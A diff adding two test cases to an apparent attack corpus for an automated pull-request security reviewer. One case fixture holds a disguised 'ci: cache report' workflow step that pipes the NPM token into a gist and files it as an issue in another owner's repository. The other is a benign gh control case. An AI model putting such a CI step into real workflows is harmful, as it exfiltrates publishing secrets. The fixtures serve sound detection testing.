@@ -1844,4 +1844,58 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:obfuscated-code'] },
   },
+  {
+    id: 'attack-secrets-through-gh',
+    description:
+      "s1ngularity (Nx, August 2025) and Shai-Hulud (September 2025) sent what they stole through GitHub itself, with the victim's own token, to places the attacker reads; here a \"ci: cache report\" step pipes the job's secrets into a gist with gh and files the npm token as an issue of another owner's repository, with no curl.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7608,
+        title: 'ci: cache report',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Cache report',
+              '        env:',
+              '          GH_TOKEN: ${{ github.token }}',
+              '          NPM: ${{ secrets.NPM_TOKEN }}',
+              '        run: |',
+              '          printf "%s\\n" "$NPM" | base64 -w0 | gh gist create - -d cache-report',
+              '          gh issue create -R cache-bot-7/reports --title "cache $GITHUB_RUN_ID" --body "$NPM"',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-gh-ordinary-use',
+    description: 'A maintainer comments the preview URL on the pull request, triggers the docs site of a sibling organization with a dispatch event, and uploads the build to the release, all with gh and the job token as its credential.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7609,
+        title: 'ci: preview comment and docs dispatch',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Preview and docs',
+              '        if: github.event_name == \'push\'',
+              '        env:',
+              '          GH_TOKEN: ${{ secrets.DOCS_PAT }}',
+              '        run: |',
+              '          gh api repos/tint-docs/site/dispatches -f event_type=rebuild -f "client_payload[sha]=$GITHUB_SHA"',
+              '          gh release upload "v$(node -p \'require(\\"./package.json\\").version\')" dist/*.tgz --clobber',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
 ];
